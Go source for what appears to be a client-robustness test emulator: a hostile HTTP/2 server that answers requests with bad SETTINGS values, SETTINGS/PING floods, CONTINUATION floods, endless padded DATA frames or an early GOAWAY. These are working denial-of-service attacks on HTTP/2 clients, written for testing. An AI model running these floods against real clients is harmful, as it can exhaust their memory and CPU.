package emulator

import (
	"encoding/binary"
	"io"
	"strings"
)

// The frames of HTTP/2 that the attacks need (RFC 9113 section 6).
const (
	frameData         = 0x0
	frameHeaders      = 0x1
	frameSettings     = 0x4
	framePing         = 0x6
	frameGoAway       = 0x7
	frameContinuation = 0x9

	flagAck        = 0x1
	flagEndHeaders = 0x4
	flagPadded     = 0x8
)

// statusOK is a header block of :status 200 alone (RFC 7541 appendix A, index 8).
const statusOK = "\x88"

func http2Frame(kind, flags byte, stream uint32, payload string) string {
	b := make([]byte, 9, 9+len(payload))
	binary.BigEndian.PutUint32(b, uint32(len(payload))<<8)
	b[3], b[4] = kind, flags
	binary.BigEndian.PutUint32(b[5:], stream)
	return string(append(b, payload...))
}

// http2Setting is one entry of a SETTINGS frame.
func http2Setting(id uint16, value uint32) string {
	return string(binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint16(nil, id), value))
}

// serveHTTP2 reads frames and attacks at the beginning or at the first request.
func (h *Hostile) serveHTTP2(v *victim, number int) {
	const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
	got := make([]byte, len(preface))
	if _, err := io.ReadFull(v.Conn, got); err != nil || string(got) != preface {
		return
	}
	// The server's preface is a SETTINGS frame.
	settings := ""
	if h.cfg.Attack == HTTP2BadSettings {
		const enablePush, initialWindow, maxFrame = 0x2, 0x4, 0x5
		settings = http2Setting(enablePush, 7) + http2Setting(initialWindow, 1<<31) + http2Setting(maxFrame, 1)
	}
	if !v.send(http2Frame(frameSettings, 0, 0, settings)) {
		return
	}
	for {
		kind, flags, stream, err := readHTTP2Frame(v.Conn)
		if err != nil {
			return
		}
		switch {
		case kind == frameSettings && flags&flagAck == 0:
			if !v.send(http2Frame(frameSettings, flagAck, 0, "")) {
				return
			}
		case kind == frameHeaders:
			h.note(HostileRequest{Connection: number})
			if !h.attackHTTP2(v, stream) {
				return
			}
		}
	}
}

func readHTTP2Frame(r io.Reader) (kind, flags byte, stream uint32, err error) {
	var head [9]byte
	if _, err := io.ReadFull(r, head[:]); err != nil {
		return 0, 0, 0, err
	}
	length := int64(binary.BigEndian.Uint32(head[:]) >> 8)
	if _, err := io.CopyN(io.Discard, r, length); err != nil {
		return 0, 0, 0, err
	}
	return head[3], head[4], binary.BigEndian.Uint32(head[5:]) &^ (1 << 31), nil
}

// attackHTTP2 answers a request and reports whether the connection goes on.
func (h *Hostile) attackHTTP2(v *victim, stream uint32) bool {
	drain := func() { h.handlers.Go(v.linger) } // what the client writes must not block it
	switch h.cfg.Attack {
	case HTTP2SettingsFlood:
		drain()
		v.flood(func(int) string {
			return http2Frame(frameSettings, 0, 0, http2Setting(0x3, 100)) + http2Frame(framePing, 0, 0, "emulator")
		})
	case HTTP2ContinuationFlood:
		drain()
		v.send(http2Frame(frameHeaders, 0, stream, statusOK))
		// Literal fields without indexing: name x, value of 126 bytes.
		field := "\x00\x01x\x7e" + strings.Repeat("a", 126)
		v.flood(func(int) string { return http2Frame(frameContinuation, 0, stream, strings.Repeat(field, 100)) })
	case HTTP2EndlessDataPadding:
		drain()
		v.send(http2Frame(frameHeaders, flagEndHeaders, stream, statusOK))
		// The pad length alone; the rest of the payload is padding.
		v.flood(func(int) string {
			return http2Frame(frameData, flagPadded, stream, "\xff"+strings.Repeat("\x00", 255))
		})
	case HTTP2GoAway:
		// Last stream 0: none was processed.
		v.send(http2Frame(frameGoAway, 0, 0, "\x00\x00\x00\x00\x00\x00\x00\x00"))
	default:
		return true // the client has had its SETTINGS
	}
	return false
}
